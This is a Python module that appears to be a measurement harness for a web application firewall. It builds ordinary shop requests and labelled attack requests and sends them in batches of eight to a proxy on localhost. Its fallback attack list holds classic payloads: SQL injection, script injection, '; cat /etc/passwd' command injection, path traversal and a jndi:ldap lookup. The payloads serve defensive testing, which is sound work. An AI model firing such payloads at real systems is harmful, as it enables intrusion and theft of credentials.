"""Requests for proxies under measurement, and a client that costs little: eight at a time."""

import base64
import contextlib
import gzip
import json
import random
import socket
from collections.abc import Iterator, Sequence
from pathlib import Path
from typing import Any, NamedTuple

CORPUS = Path(__file__).resolve().parents[2] / "shared" / "data" / "waf" / "dev.jsonl.gz"
"""Labelled requests beside the repository, which are never part of it."""
AT_ONCE = 8
_NOT_SENT = ("host", "content-length", "connection", "transfer-encoding", "expect", "upgrade", "te")
_BROWSER = (
    "User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0\r\n"
    "Accept: text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8\r\n"
    "Accept-Language: en-US,en;q=0.5\r\nAccept-Encoding: gzip, deflate, br\r\n"
    "Sec-Fetch-Dest: document\r\nSec-Fetch-Mode: navigate\r\nSec-Fetch-Site: same-origin\r\n"
    "Upgrade-Insecure-Requests: 1\r\n"
)
_HARMLESS = ("O'Brien", "5 > 3 and 2 < 4", "select a table for two", "<b>bold</b>", "union of trade unions")
_ATTACKS = (
    "1' UNION SELECT password FROM users--",
    "<script>alert(1)</script>",
    "; cat /etc/passwd",
    "../../../../etc/passwd",
    "${jndi:ldap://a.example/x}",
)


class Sent(NamedTuple):
    """A request as bytes, and what it is."""

    attack: bool
    family: str
    raw: bytes


def everyday(count: int) -> list[Sent]:
    """As browsers ask a shop; one request of five is a small form."""
    return [Sent(False, "everyday", _everyday(number)) for number in range(count)]


def labelled(count: int, seed: int = 7) -> list[Sent]:
    """So many of the labelled requests, half of them attacks; a few of our own where there are none."""
    if not CORPUS.exists():
        return _own()
    with gzip.open(CORPUS, "rt", encoding="utf-8") as lines:
        records = [json.loads(line) for line in lines]
    chosen = random.Random(seed)  # noqa: S311
    attacks = [record for record in records if record["label"] == "attack"]
    harmless = [record for record in records if record["label"] != "attack"]
    return [
        Sent(record["label"] == "attack", record["family"], _raw(record))
        for records in (attacks, harmless)
        for record in chosen.sample(records, min(count // 2, len(records)))
    ]


def _everyday(number: int) -> bytes:
    cookie = f"Cookie: session={number}; theme=dark\r\n"
    if number % 5 == 4:
        body = f"item={number}&amount=2"
        form = f"Content-Type: application/x-www-form-urlencoded\r\nContent-Length: {len(body)}\r\n"
        return f"POST /cart HTTP/1.1\r\nHost: shop.example\r\n{_BROWSER}{cookie}{form}\r\n{body}".encode()
    target = f"/item/{number}?page=2&sort=price&color=red&size=xl"
    return f"GET {target} HTTP/1.1\r\nHost: shop.example\r\n{_BROWSER}{cookie}\r\n".encode()


def _own() -> list[Sent]:
    found = []
    for attack, texts in ((False, _HARMLESS), (True, _ATTACKS)):
        for text in texts:
            body = json.dumps({"comment": text}).encode()
            head = f"POST /comments HTTP/1.1\r\nHost: shop.example\r\n{_BROWSER}".encode()
            kind = b"Content-Type: application/json\r\nContent-Length: %d\r\n\r\n" % len(body)
            found.append(Sent(attack, "own", head + kind + body))
    return found


def _raw(record: dict[str, Any]) -> bytes:
    body = record["body"] or ""
    payload = base64.b64decode(body) if record.get("body_enc") == "b64" else body.encode()
    lines = [f"{record['method']} {record['uri']} HTTP/1.1"]
    hosts = [value for name, value in record["headers"] if name.lower() == "host"]
    lines.append(f"Host: {hosts[0] if hosts else 'shop.example'}")
    lines += [f"{name}: {value}" for name, value in record["headers"] if name.lower() not in _NOT_SENT]
    if payload or record["method"] not in ("GET", "HEAD", "OPTIONS", "DELETE"):
        lines.append(f"Content-Length: {len(payload)}")
    return "\r\n".join(lines).encode("latin-1") + b"\r\n\r\n" + payload


class Client:
    """Connections to a proxy that are kept as long as it keeps them."""

    def __init__(self, port: int) -> None:
        self._port = port
        self._sockets: list[socket.socket | None] = [None] * AT_ONCE

    def send(self, requests: Sequence[Sent]) -> list[int]:
        """The statuses, 0 where the connection was closed without an answer."""
        statuses: list[int] = []
        for at in range(0, len(requests), AT_ONCE):
            group = requests[at : at + AT_ONCE]
            for slot, one in enumerate(group):
                self._write(slot, one.raw)
            statuses += [self._answer(slot) for slot in range(len(group))]
        return statuses

    def close(self) -> None:
        """End them."""
        for slot in range(AT_ONCE):
            self._drop(slot)

    def _write(self, slot: int, raw: bytes) -> None:
        connection = self._sockets[slot]
        if connection is None:
            connection = self._sockets[slot] = socket.create_connection(("127.0.0.1", self._port), timeout=60)
            connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        with contextlib.suppress(OSError):
            connection.sendall(raw)

    def _answer(self, slot: int) -> int:
        connection = self._sockets[slot]
        data = b""
        while connection is not None and b"\r\n\r\n" not in data:
            try:
                piece = connection.recv(65_536)
            except OSError:
                piece = b""
            if not piece:
                self._drop(slot)
                return 0
            data += piece
        head, _, rest = data.partition(b"\r\n\r\n")
        lower = head.lower()
        length = int(lower.partition(b"content-length:")[2].split(b"\r\n")[0] or 0)
        while connection is not None and len(rest) < length:
            piece = connection.recv(65_536)
            if not piece:
                break
            rest += piece
        if b"connection: close" in lower:
            self._drop(slot)
        return int(head[9:12])

    def _drop(self, slot: int) -> None:
        connection, self._sockets[slot] = self._sockets[slot], None
        if connection is not None:
            connection.close()


@contextlib.contextmanager
def client(port: int) -> Iterator[Client]:
    """A client for a while."""
    found = Client(port)
    try:
        yield found
    finally:
        found.close()
